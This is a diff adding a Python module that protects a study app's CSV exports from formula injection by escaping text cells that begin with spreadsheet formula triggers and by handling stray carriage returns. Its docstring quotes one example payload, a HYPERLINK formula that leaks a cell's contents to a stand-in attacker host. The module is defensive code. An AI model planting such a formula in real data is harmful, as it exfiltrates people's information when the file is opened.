@@ -1,0 +1,144 @@
+"""Every CSV the app writes goes through here, so that no cell runs as a formula in a spreadsheet.
+
+A participant's free text such as ``=HYPERLINK("http://evil.example/?leak="&A2,"Click me")`` would
+otherwise be a live formula when a researcher opens an export in Excel or LibreOffice (CSV or formula
+injection). Following OWASP's CSV-injection guidance, a text cell that begins with ``=``, ``+``,
+``-``, ``@``, a tab or a carriage return gets a leading apostrophe (``'``), which spreadsheet
+programs read as "this is text". Numbers are never touched: numeric columns stay numeric, and a
+text cell that is just a number (``-3``, ``+31``) stays as it is, since it cannot run anything.
+
+CSV writers here also never leave a carriage return of its own inside a cell: Python's csv module
+quotes a cell only for the characters of its line terminator, so with ``\\n`` line ends a lone CR
+would be written bare, and Excel and pandas would start a new row there (with whatever text follows,
+formulas included). Such a CR becomes ``\\n``, which is quoted; ``\\r\\n`` inside text stays.
+
+``raw_text=True`` turns the apostrophes off for files meant for R or Python (the export page's
+checkbox, ``studyapp export --raw-text``). Formats that are not opened by spreadsheets (SPSS .sav,
+Parquet) keep text exactly as given and do not use this module. A future XLSX writer must use
+:func:`neutralise` too: openpyxl stores any string that starts with ``=`` as a formula.
+"""
+
+from __future__ import annotations
+
+import csv
+import os
+import re
+from collections.abc import Iterable, Mapping, Sequence
+from typing import IO, TYPE_CHECKING, Any
+
+if TYPE_CHECKING:
+    import pandas as pd
+
+#: The first characters that make a spreadsheet read a cell as a formula (OWASP).
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d+)?|[.,]\d+)(?:[eE][+-]?\d+)?")
+_LONE_CR = re.compile(r"\r(?!\n)")
+
+#: What the codebook and the export page say about text cells in CSV files.
+NEUTRALISED_NOTE = (
+    "In the CSV files, a text cell that begins with =, +, -, @, a tab or a carriage return starts with an "
+    "apostrophe (') so that Excel and LibreOffice show it as text and never run it as a formula (OWASP's "
+    "advice against CSV injection). Numbers, and text that is just a number such as -3, are unchanged. "
+    "Remove that leading apostrophe before analysing such text, or export with raw text for R and Python. "
+    "A carriage return on its own inside a text is written as a line feed. The SPSS .sav and Parquet files "
+    "hold every text exactly as given."
+)
+RAW_NOTE = (
+    "Exported with raw text: the CSV files hold every text exactly as given (a carriage return on its own "
+    "inside a text is written as a line feed), so a text that begins with = may run as a formula when the "
+    "file is opened in a spreadsheet program. Read these files with R or Python, not Excel. The SPSS .sav "
+    "and Parquet files hold every text exactly as given."
+)
+
+
+def text_note(*, raw_text: bool = False) -> str:
+    """The sentence for codebooks and pages that says how text is written to CSV."""
+    return RAW_NOTE if raw_text else NEUTRALISED_NOTE
+
+
+def is_formula_like(text: str) -> bool:
+    """Whether a spreadsheet program could take ``text`` for a formula."""
+    return text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text)
+
+
+def neutralise(value: Any, *, raw_text: bool = False) -> Any:
+    """``value`` as a CSV or XLSX cell: formula-like text gets a leading ``'``; anything else is unchanged."""
+    if not isinstance(value, str):
+        return value
+    if not raw_text and is_formula_like(value):
+        value = "'" + value
+    return _LONE_CR.sub("\n", value) if "\r" in value else value
+
+
+def neutralise_row(values: Iterable[Any], *, raw_text: bool = False) -> list[Any]:
+    """Each cell of a row through :func:`neutralise`."""
+    return [neutralise(value, raw_text=raw_text) for value in values]
+
+
+class SafeWriter:
+    """``csv.writer`` whose rows pass through :func:`neutralise` (header included)."""
+
+    def __init__(self, handle: IO[str], *, raw_text: bool = False, **options: Any) -> None:
+        self._writer = csv.writer(handle, **options)
+        self._raw_text = raw_text
+
+    def writerow(self, values: Iterable[Any]) -> None:
+        self._writer.writerow(neutralise_row(values, raw_text=self._raw_text))
+
+    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
+        for values in rows:
+            self.writerow(values)
+
+
+class SafeDictWriter(SafeWriter):
+    """``csv.DictWriter`` whose rows pass through :func:`neutralise` (header included)."""
+
+    def __init__(self, handle: IO[str], fieldnames: Sequence[str], *, raw_text: bool = False, **options: Any):
+        super().__init__(handle, raw_text=raw_text, **options)
+        self.fieldnames = list(fieldnames)
+
+    def writeheader(self) -> None:
+        super().writerow(self.fieldnames)
+
+    def writerow(self, values: Mapping[str, Any]) -> None:  # type: ignore[override]
+        extra = set(values) - set(self.fieldnames)
+        if extra:
+            raise ValueError(f"fields not in fieldnames: {sorted(extra)}")
+        super().writerow(["" if values.get(name) is None else values[name] for name in self.fieldnames])
+
+
+def neutralise_frame(frame: pd.DataFrame, *, raw_text: bool = False) -> pd.DataFrame:
+    """A copy of ``frame`` with :func:`neutralise` applied to every text column (numbers untouched)."""
+    import pandas as pd
+
+    out = frame.copy()
+    for name in out.columns:
+        column = out[name]
+        if pd.api.types.is_numeric_dtype(column.dtype) or pd.api.types.is_datetime64_any_dtype(column.dtype):
+            continue
+        if isinstance(column.dtype, pd.StringDtype):
+            # vectorised for text-only columns: only cells that need a change go through Python
+            starts = column.str.startswith(FORMULA_TRIGGERS).fillna(False)
+            has_cr = column.str.contains("\r", regex=False).fillna(False)
+            touched = (starts | has_cr).to_numpy(dtype=bool)
+            if touched.any():
+                values = column.to_numpy(dtype=object, na_value=None)
+                values[touched] = [neutralise(v, raw_text=raw_text) for v in values[touched]]
+                out[name] = pd.array(values, dtype=column.dtype)
+        else:
+            out[name] = column.map(lambda v: neutralise(v, raw_text=raw_text))
+    return out
+
+
+def frame_to_csv(
+    frame: pd.DataFrame,
+    path: str | os.PathLike[str],
+    *,
+    raw_text: bool = False,
+    encoding: str = "utf-8",
+    lineterminator: str = "\n",
+) -> None:
+    """Write ``frame`` (header and cells through :func:`neutralise`) as CSV without its index."""
+    safe = neutralise_frame(frame, raw_text=raw_text)
+    header = neutralise_row((str(c) for c in frame.columns), raw_text=raw_text)
+    safe.to_csv(path, index=False, header=header, encoding=encoding, lineterminator=lineterminator)
